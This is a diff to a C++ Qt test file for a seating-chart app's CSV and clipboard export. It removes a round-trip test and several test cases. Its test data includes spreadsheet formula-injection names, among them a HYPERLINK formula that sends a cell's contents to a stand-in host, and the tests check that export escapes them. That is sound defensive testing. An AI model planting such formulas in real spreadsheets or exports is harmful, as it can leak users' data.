@@ -1,54 +1,11 @@
 // The chart as a CSV file and as clipboard rows, and tables pasted from elsewhere.
 #include "core/chartexport.h"
-#include "core/chartlayout.h"
 #include "core/pastedtable.h"
 #include "core/pupilinfo.h"
 #include "core/sharedstate.h"
 #include "support/fixtures.h"
 
-#include <QRandomGenerator>
 #include <QtTest>
-
-#include <utility>
-
-namespace
-{
-
-// A strict RFC 4180 reader: records end at `end` (CR LF in a CSV file), a quoted field may
-// hold anything.
-QList<QStringList> readTable(const QString &text, QChar separator = u',', QLatin1String end = QLatin1String("\r\n"))
-{
-    QList<QStringList> records;
-    QStringList record;
-    QString field;
-    bool quoted = false;
-    for (qsizetype i = 0; i < text.size(); ++i) {
-        const QChar c = text.at(i);
-        if (quoted) {
-            if (c != u'"')
-                field += c;
-            else if (i + 1 < text.size() && text.at(i + 1) == u'"')
-                field += text.at(++i);
-            else
-                quoted = false;
-        } else if (c == u'"' && field.isEmpty()) {
-            quoted = true;
-        } else if (c == separator) {
-            record.append(std::exchange(field, {}));
-        } else if (QStringView(text).sliced(i).startsWith(end)) {
-            record.append(std::exchange(field, {}));
-            records.append(std::exchange(record, {}));
-            i += end.size() - 1;
-        } else {
-            field += c;
-        }
-    }
-    if (quoted || !field.isEmpty() || !record.isEmpty())
-        records.append({QStringLiteral("<unterminated>")});
-    return records;
-}
-
-} // namespace
 
 class TestTables : public QObject
 {
@@ -57,7 +14,6 @@ class TestTables : public QObject
 private slots:
     void exports_data();
     void exports();
-    void csvAndClipboardGiveNamesBack();
     void pasted_data();
     void pasted();
     void pastedLimits_data();
@@ -76,8 +32,8 @@ void TestTables::exports_data()
     QTest::addColumn<QString>("csv"); // after the byte order mark
     QTest::addColumn<QString>("clipboard");
     // A spreadsheet would evaluate a name starting with = + - @ TAB or CR.
-    QTest::newRow("standard room")
-        << "grid 7 4"
+    QTest::newRow("four by four")
+        << "grid 4 4"
         << SeatMap{{1, "山田 太郎"},
                    {2, " "}, // an empty seat
                    {3, "=HYPERLINK(\"http://x/?\"&D7)"},
@@ -89,8 +45,8 @@ void TestTables::exports_data()
                    {11, "\t山田"},
                    {12, "\r山田"},
                    {13, "山田=1"},
-                   {27, "一\r\n二"},
-                   {28, " 前後 "}}
+                   {15, "一\r\n二"},
+                   {16, " 前後 "}}
         << "座席番号,列,列内の位置,氏名\r\n"
            "1,1,1,山田 太郎\r\n"
            "2,1,2,\r\n"
@@ -101,16 +57,13 @@ void TestTables::exports_data()
            "7,2,3,\r\n8,2,4,\r\n"
            "9,3,1,'-山田\r\n10,3,2,'@A1\r\n11,3,3,'\t山田\r\n"
            "12,3,4,\"'\r山田\"\r\n13,4,1,山田=1\r\n"
-           "14,4,2,\r\n15,4,3,\r\n16,4,4,\r\n"
-           "17,5,1,\r\n18,5,2,\r\n19,5,3,\r\n20,5,4,\r\n"
-           "21,6,1,\r\n22,6,2,\r\n23,6,3,\r\n24,6,4,\r\n"
-           "25,7,1,\r\n26,7,2,\r\n"
-           "27,7,3,\"一\r\n二\"\r\n"
-           "28,7,4, 前後 \r\n"
-        << " 前後 \t\"一\r\n二\"\t\t\n\t\t\t\n\t\t\t\n\t\t\t山田=1\n\"'\r山田\"\t\"'\t山田\"\t'@A1\t'-山田\n"
+           "14,4,2,\r\n"
+           "15,4,3,\"一\r\n二\"\r\n"
+           "16,4,4, 前後 \r\n"
+        << " 前後 \t\"一\r\n二\"\t\t山田=1\n\"'\r山田\"\t\"'\t山田\"\t'@A1\t'-山田\n"
            "\t\t\"\"\"ｱｲ\"\"\"\t佐藤,花子\n'+1\t\"'=HYPERLINK(\"\"http://x/?\"\"&D7)\"\t\t山田 太郎\n"
            "|山田 太郎\t\t\"'=HYPERLINK(\"\"http://x/?\"\"&D7)\"\t'+1\n佐藤,花子\t\"\"\"ｱｲ\"\"\"\t\t\n"
-           "'-山田\t'@A1\t\"'\t山田\"\t\"'\r山田\"\n山田=1\t\t\t\n\t\t\t\n\t\t\t\n\t\t\"一\r\n二\"\t 前後 \n";
+           "'-山田\t'@A1\t\"'\t山田\"\t\"'\r山田\"\n山田=1\t\t\"一\r\n二\"\t 前後 \n";
     // Two rows of four, the back left cell without a desk, an aisle after the second column
     // and the right half one 班: the place in the row counts the cell without a desk, the
     // clipboard keeps it and the aisle as empty fields.
@@ -134,74 +87,6 @@ void TestTables::exports()
         texts[it.key() - 1] = it.value();
     QCOMPARE(chartCsv(r, texts), QByteArray("\xEF\xBB\xBF") + csv.toUtf8());
     QCOMPARE(chartClipboardText(r, texts, false) + u'|' + chartClipboardText(r, texts, true), clipboard);
-}
-
-// Generated charts of generated rooms written as CSV and as clipboard rows read back name for
-// name with a strict reader. The CSV's row and place find the desk in the room; the
-// clipboard's rows and fields lie as the chart on the screen shows the boxes.
-void TestTables::csvAndClipboardGiveNamesBack()
-{
-    const QStringList pieces{"山", "田", "ｱ", "か", " ", "　", ",", "\"", "\t", "\r\n", "\n", "a", "髙", "=", "-"};
-    QRandomGenerator random(20261206);
-    for (int round = 0; round < 300; ++round) {
-        const Room room = round % 3 == 0 ? Room::standard() : randomRoom(random);
-        QStringList seats, shown;
-        for (int i = 0; i < room.deskCount(); ++i) {
-            QString name;
-            for (int k = random.bounded(5); k > 0; --k)
-                name += pieces.at(random.bounded(pieces.size()));
-            seats.append(name);
-            const bool formula = QStringLiteral("=-\t\r").contains(name.left(1));
-            shown.append(name.trimmed().isEmpty() ? QString() : formula ? u'\'' + name : name);
-        }
-
-        const QByteArray bytes = chartCsv(room, seats);
-        QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
-        const QList<QStringList> records = readTable(QString::fromUtf8(bytes.mid(3)));
-        const bool groups = !room.groupNumbers().isEmpty();
-        QCOMPARE(records.size(), room.deskCount() + 1);
-        QCOMPARE(records.first(), QStringList({"座席番号", "列", "列内の位置", "氏名", "班"}).mid(0, groups ? 5 : 4));
-        for (int desk = 1; desk <= room.deskCount(); ++desk) {
-            const QStringList &record = records.at(desk);
-            QCOMPARE(record.size(), groups ? 5 : 4);
-            QCOMPARE(record.at(0), QString::number(desk));
-            QCOMPARE(room.deskNumber({record.at(1).toInt() - 1, room.columns() - record.at(2).toInt()}), desk);
-            QCOMPARE(record.at(3), shown.at(desk - 1));
-            if (groups)
-                QCOMPARE(record.at(4), room.groupOf(desk) ? QString::number(room.groupOf(desk)) : QString());
-        }
-
-        for (const bool teacherView : {false, true}) {
-            const QList<QStringList> rows =
-                readTable(chartClipboardText(room, seats, teacherView), u'\t', QLatin1String("\n"));
-            QStringList numbers;
-            for (int desk = 1; desk <= room.deskCount(); ++desk)
-                numbers.append(QStringLiteral("#%1").arg(desk));
-            const QList<QStringList> places =
-                readTable(chartClipboardText(room, numbers, teacherView), u'\t', QLatin1String("\n"));
-            QCOMPARE(rows.size(), room.rows());
-            QCOMPARE(places.size(), room.rows());
-            const ChartLayout layout(room, teacherView);
-            int previousTop = -1;
-            for (int line = 0; line < rows.size(); ++line) {
-                QCOMPARE(rows.at(line).size(), places.at(line).size());
-                int top = -1, right = -1;
-                for (int field = 0; field < rows.at(line).size(); ++field) {
-                    const int desk = places.at(line).at(field).mid(1).toInt();
-                    QCOMPARE(rows.at(line).at(field), desk ? shown.at(desk - 1) : QString());
-                    if (desk == 0)
-                        continue;
-                    // Lines top to bottom, fields left to right, as the boxes are drawn.
-                    const QRect box = layout.box(desk);
-                    QVERIFY(top < 0 ? box.top() > previousTop : box.top() == top);
-                    QVERIFY(box.left() > right);
-                    top = box.top();
-                    right = box.right();
-                }
-                previousTop = std::max(previousTop, top);
-            }
-        }
-    }
 }
 
 // What a pasted table offers: "column labels/…#the column proposed#its names/…#the next column's/…".
@@ -236,8 +121,6 @@ void TestTables::pasted_data()
                                                 << "1列目：（空）/2列目：山田#1#山田/佐藤#";
     QTest::newRow("nothing but blanks") << " \r\n\t\r\n　"
                                         << "#0##";
-    QTest::newRow("empty") << ""
-                           << "#0##";
 }
 
 void TestTables::pasted()
@@ -311,9 +194,6 @@ void TestTables::pupilDetails_data()
     QTest::newRow("a line beyond the last pupil")
         << QStringList() << "2 1:すずき\r\n\r\nX\r\n"
         << QStringList{title + "貼り付ける表の行が多すぎます。\r\n鈴木 一郎さんから下には、1人しかいません。|48"};
-    QTest::newRow("too many lines") << QStringList() << "1 2:男\r\n女\r\n男"
-                                    << QStringList{title + "貼り付ける表の行が多すぎます。\r\n"
-                                                           "佐藤 花子さんから下には、2人しかいません。|48"};
     QTest::newRow("too many columns") << QStringList() << "0 2:男\t班長\tx"
                                       << QStringList{title + "貼り付ける表の列が多すぎます。\r\n"
                                                              "「性別」の列から右には、2列しかありません。|48"};
